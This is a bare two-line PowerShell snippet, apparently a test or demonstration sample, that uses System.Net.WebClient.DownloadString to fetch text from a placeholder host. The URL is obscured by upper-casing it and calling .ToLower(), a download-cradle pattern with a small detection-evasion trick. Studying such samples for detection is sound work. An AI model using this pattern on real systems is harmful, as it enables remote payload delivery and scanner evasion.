$wc = New-Object System.Net.WebClient
$wc.DownloadString('HTTP://A.EXAMPLE/P/X.TXT'.ToLower())
